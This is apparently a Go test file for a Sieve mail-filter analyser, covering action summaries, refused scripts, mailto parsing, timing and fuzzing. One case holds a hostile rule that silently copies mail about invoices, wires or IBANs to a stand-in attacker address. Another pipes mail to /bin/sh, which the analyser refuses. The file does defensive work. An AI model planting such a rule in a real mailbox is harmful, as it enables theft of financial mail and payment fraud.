package sieve

import (
	"fmt"
	"strings"
	"testing"

	"waxseal/internal/testtime"
)

func show(s Script) string {
	var out []string
	for _, a := range s.Actions {
		line := fmt.Sprintf("%d %s", a.Line, a.Verb)
		for _, word := range append([]string{a.Target}, a.Args...) {
			if word != "" {
				line += " " + word
			}
		}
		for _, mark := range []struct {
			word string
			set  bool
		}{{"copy", a.Copy}, {"diverts", a.Diverts}, {"drops", a.Drops}, {"test", a.Test}} {
			if mark.set {
				line += " [" + mark.word + "]"
			}
		}
		if a.Never != "" {
			line += " never: " + a.Never
		}
		if a.Lacks != "" {
			line += " lacks " + a.Lacks
		}
		if when := a.When(); when != "" {
			line += " if " + when
		}
		out = append(out, line)
	}
	return strings.Join(out, "\n")
}

func TestActions(t *testing.T) {
	for _, tc := range []struct{ name, in, want string }{
		{"redirect", `redirect "a@b.example";`, "1 redirect a@b.example [diverts]"},
		{"redirect and keep", `redirect "a@b.example"; keep;`, "1 redirect a@b.example\n1 keep"},
		{"keep and redirect", `keep; redirect "a@b.example";`, "1 keep\n1 redirect a@b.example"},
		{"redirect :copy", `require "copy"; redirect :copy "a@b.example";`, "1 redirect a@b.example [copy]"},
		{"copy, and the rest away", `require "copy"; redirect :copy "a@b.example"; discard;`, "1 redirect a@b.example [copy] [diverts]\n1 discard"},
		{"away by two", `require "copy"; redirect :copy "a@b.example"; redirect "c@d.example";`, "1 redirect a@b.example [copy] [diverts]\n1 redirect c@d.example [diverts]"},
		{"discard", `discard;`, "1 discard [drops]"},
		{"discard, but filed", `require "fileinto"; fileinto "x"; discard;`, "1 fileinto x\n1 discard"},
		{"discard and keep", "discard; keep;", "1 discard\n1 keep"},
		{"discard behind a condition", `require "fileinto"; if header "a" "b" { fileinto "x"; } discard;`, "1 fileinto x if header \"a\" is \"b\"\n1 discard [drops]"},
		{"redirect to one, keep for the rest", "if true { redirect \"a@b.example\"; stop; } keep;", "1 redirect a@b.example [diverts] if always\n1 stop if always\n1 keep"},
		{"redirect, then keep for all", "if exists \"x\" { redirect \"a@b.example\"; } keep;", "1 redirect a@b.example if there is header \"x\"\n1 keep"},
		{"reject", `require "reject"; reject text:` + "\nno\n..dot\n.\n;", "1 reject no\n.dot\n"},
		{"fileinto :copy", `require ["fileinto","copy"]; fileinto :copy "x"; redirect "a@b.example";`, "1 fileinto x [copy]\n1 redirect a@b.example"},
		{"elsif", `if header :contains ["from", "to"] "x" { keep; } elsif size :over 1M { discard; } else { stop; }`,
			"1 keep if header \"from\" or header \"to\" contains \"x\"\n1 discard [drops] if not header \"from\" or header \"to\" contains \"x\" and the mail is over 1048576 bytes\n" +
				"1 stop if not header \"from\" or header \"to\" contains \"x\" and the mail is not over 1048576 bytes"},
		{"allof and not", `if not allof (true, anyof (exists "a", not exists "b")) { stop; }`, `1 stop if not (always and (there is header "a" or there is no header "b"))`},
		{"after stop", "stop; keep;", "1 stop\n1 keep never: the script ends before it (stop)"},
		{"after both branches", `if exists "a" { stop; } else { discard; stop; } keep;`,
			"1 stop if there is header \"a\"\n1 discard [drops] if there is no header \"a\"\n1 stop if there is no header \"a\"\n1 keep never: the script ends before it (stop)"},
		{"never", "if false { discard; } else { keep; }", "1 discard never: its test never holds if never\n1 keep if always"},
		{"always before", "if true { keep; } elsif exists \"a\" { discard; }", "1 keep if always\n1 discard never: a test before it always holds if never and there is header \"a\""},
		{"without require", `fileinto "x";`, "1 fileinto x lacks fileinto"},
		{"copy without require", `redirect :copy "a@b.example";`, "1 redirect a@b.example [copy] lacks copy"},
		{"programs", `require ["vnd.dovecot.pipe","vnd.dovecot.execute","copy"];` + "\n" + `pipe :copy :try "learn.sh" ["a", "b"]; if execute :pipe "x" "y" { stop; }`,
			"2 pipe learn.sh a b [copy]\n2 execute x y [test]\n2 stop if execute :pipe \"x\" \"y\""},
		{"pipe away", `require "vnd.dovecot.pipe"; pipe "x";`, "1 pipe x [diverts]"},
		{"headers", `require "editheader"; addheader :last "X-A" "b"; deleteheader :is "Subject" "c";`, "1 addheader X-A b\n1 deleteheader Subject c"},
		{"include", `require "include"; include :global :once "spam";`, "1 include spam global once"},
		{"notify", `require "enotify"; notify :message "m" "mailto:a@b.example";`, "1 notify mailto:a@b.example m"},
		{"notify of old", `require "notify"; notify :method "mailto" :options "a@b.example";`, "1 notify mailto:a@b.example lacks enotify"},
		{"flags", `require ["imap4flags","variables"]; setflag "v" ["\\Seen"]; addflag "\\Deleted";`, "1 setflag v \\Seen\n1 addflag \\Deleted"},
		{"encoded characters", `require "encoded-character"; redirect "a${hex:40}${unicode: 62 2e}example";`, "1 redirect a@b.example [diverts]"},
		{"no encoded characters", `require "fileinto"; fileinto "${hex:40}";`, "1 fileinto ${hex:40}"},
		{"variables", `require "variables"; set :lower "v" "A@B"; set "w" "${V}.example"; redirect "${w}"; redirect "${x}";`, "1 redirect a@b.example [diverts]\n1 redirect ${x} [diverts]"},
		{"copy of what is about money", "require [\"copy\",\"body\"];\nif anyof (header :contains \"subject\" [\"invoice\",\"wire\"], body :contains \"IBAN\") { redirect :copy \"drop@evil.example.net\"; }",
			`2 redirect drop@evil.example.net [copy] if header "subject" contains "invoice" or "wire" or the body contains "IBAN"`},
		{"a variable out of the message", `require ["vnd.dovecot.pipe", "copy", "imapsieve", "environment", "variables"];` + "\n" +
			`if environment :matches "imap.user" "*" { set "username" "${1}"; } pipe :copy "sa-learn-spam.sh" [ "${username}" ];`, "2 pipe sa-learn-spam.sh ${username} [copy]"},
		{"each part", `require "foreverypart"; foreverypart { discard; }`, "1 discard [drops] if in each part"},
		{"capitals and comments", "/* a */ IF TRUE # b\n{ KEEP; }", "2 keep if always"},
		{"an extension if it is there", `require "ihave"; if ihave "fileinto" { fileinto "x"; }`, "1 fileinto x if ihave \"fileinto\""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := Parse(tc.in, Options{})
			if got := show(s); got != tc.want {
				t.Errorf("got\n%s\nwant\n%s", got, tc.want)
			}
			if lacks := strings.Contains(tc.want, "lacks") && !strings.Contains(tc.in, "notify"); s.Refused != lacks {
				t.Errorf("refused %v: %v", s.Refused, s.Problems)
			}
		})
	}
}

func TestRefused(t *testing.T) {
	for _, tc := range []struct {
		name, in string
		line     int
		words    string
	}{
		{"no semicolon", "keep", 1, "the end of the script"},
		{"two semicolons", "keep;;", 1, "a command"},
		{"a character", "keep;\nü", 2, "unexpected character"},
		{"open string", "\nredirect \"x;", 2, "does not end"},
		{"open text", "redirect text:\nx;\n", 3, "does not end"},
		{"open comment", "keep; /* x", 1, "does not end"},
		{"open list", `redirect ["a", ];`, 1, "a string"},
		{"unknown command", "frob;", 1, "frob"},
		{"unknown tag", "keep :frob;", 1, "frob"},
		{"unknown extension", "require \"x-frob\";", 1, "x-frob"},
		{"late require", "keep;\nrequire \"copy\";", 2, "require"},
		{"no require", "\nfileinto \"x\";", 2, "fileinto"},
		{"no address", `redirect "frob";`, 1, "no address"},
		{"test as command", "true;", 1, "true"},
		{"command as test", "if keep { stop; }", 1, "keep"},
		{"else alone", "else { keep; }", 1, "else"},
		{"no braces", "if true; keep;", 1, "braces"},
		{"braces", "keep { stop; }", 1, "braces"},
		{"one argument too many", `redirect "a@b.example" "c";`, 1, "arguments"},
		{"tag behind", `redirect "a@b.example" :copy;`, 1, "behind"},
		{"deep", strings.Repeat("if true {", 40), 1, "deeper"},
		{"deep tests", "if " + strings.Repeat("not ", 40) + "true { keep; }", 1, "deeper"},
		{"number", "if size :over 99999999999999999999 { keep; }", 1, "too large"},
		{"large", strings.Repeat("keep;\n", 200_000), 1, "larger"},
		{"program with a path", `require "vnd.dovecot.pipe"; pipe "/bin/sh";`, 1, "no name"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := Parse(tc.in, Options{})
			if !s.Refused || len(s.Problems) == 0 || s.Problems[0].Line != tc.line || !strings.Contains(s.Problems[0].Message, tc.words) {
				t.Errorf("refused %v, problems %v", s.Refused, s.Problems)
			}
		})
	}
}

// TestOffered: what sieve_extensions does not offer, no script may require.
func TestOffered(t *testing.T) {
	const script = `require "vnd.dovecot.pipe"; pipe "x";`
	if s := Parse(script, Options{Extensions: Standard()}); !s.Refused || len(s.Actions) != 1 {
		t.Errorf("%+v", s)
	}
	if s := Parse(script, Options{Extensions: append(Standard(), "vnd.dovecot.pipe")}); s.Refused {
		t.Errorf("%+v", s.Problems)
	}
	if s := Parse(`require "vnd.other"; frob "x"; discard;`, Options{Extensions: append(Standard(), "vnd.other")}); s.Refused || len(s.Actions) != 1 || len(s.Unknown) != 1 {
		t.Errorf("%+v", s)
	}
}

func TestMailto(t *testing.T) {
	for uri, want := range map[string]string{
		"mailto:a@b.example": "a@b.example true", "MAILTO:a%40b.example%2Cc@d.example?cc=e@f.example&subject=x%20y&bcc=g@h.example": "a@b.example c@d.example e@f.example true",
		"mailto:": " true", "mailto:?to=a@b.example": "a@b.example true", "mailto:a": " false", "xmpp:a@b": " false", "mailto:a@b,c@d": " false", "mailto:a@b?x#=y": " false", "mailto:%4": " false", "": " false",
	} {
		to, ok := Mailto(uri)
		if got := fmt.Sprintf("%s %v", strings.Join(to, " "), ok); got != want {
			t.Errorf("%s: %s, want %s", uri, got, want)
		}
	}
}

// TestMay: a variable of several values makes several targets.
func TestMay(t *testing.T) {
	s := Parse(`require "variables"; set "v" "a@b.example"; if exists "x" { set "v" "c@d.example"; } redirect "${v}";`, Options{})
	if len(s.Actions) != 1 || strings.Join(s.Actions[0].May, " ") != "a@b.example c@d.example" {
		t.Errorf("%+v", s.Actions)
	}
}

// TestHostile: four times as much of anything takes about four times as long.
func TestHostile(t *testing.T) {
	for _, piece := range []string{
		"x", "\"", "\n", "(", "\\", "if true {", "keep;", "if true {} elsif true {} ", "if exists \"a\" {keep;} elsif exists \"b\" {keep;} ", "[", "[\"a\",", "\"a\",", "# \n", "/*", "/**/", "text:\n", ":a ", "not ", "1", "1 ",
		"require \"copy\";", "if anyof (true, ", "true,", "..\n", "redirect \"a@b.example\";\n", "{", "}", "require \"x\";", "elsif exists \"b\" {keep;} ",
	} {
		for _, start := range []string{"", "if anyof (", "redirect [", "if exists \"a\" {keep;} "} {
			t.Run(start+piece, func(t *testing.T) {
				testtime.Linear(t, 1<<20, func(size int) {
					s := Parse(start+strings.Repeat(piece, size/len(piece)), Options{MaxSize: 10 << 20})
					for _, a := range s.Actions {
						a.When()
					}
				})
			})
		}
	}
}

func FuzzParse(f *testing.F) {
	f.Add("require [\"fileinto\", \"copy\"];\nif anyof (not header :contains [\"a\", \"b\"] \"c\", size :over 10K) { fileinto :copy \"x\"; } elsif true { redirect \"a@b.example\"; stop; } else { discard; }\n")
	f.Add("require [\"vacation\",\"variables\",\"include\"];\nset \"a\" \"${b}\"; vacation :days 3 :from \"a@b.example\" text: # x\n..a\n.\n; include :global \"x\"; # end")
	f.Fuzz(func(t *testing.T, text string) {
		last := strings.Count(text, "\n") + 1
		s := Parse(text, Options{})
		for i, a := range s.Actions {
			if a.Line < 1 || a.Line > last || len(a.When()) > maxWords+8 || a.Drops && a.Diverts {
				t.Errorf("action %d: %+v in %d lines", i, a, last)
			}
		}
		for _, p := range s.Problems {
			if p.Line < 1 || p.Line > last {
				t.Errorf("problem %+v in %d lines", p, last)
			}
		}
		if s.Refused && len(s.Problems) == 0 {
			t.Error("refused without a reason")
		}
	})
}
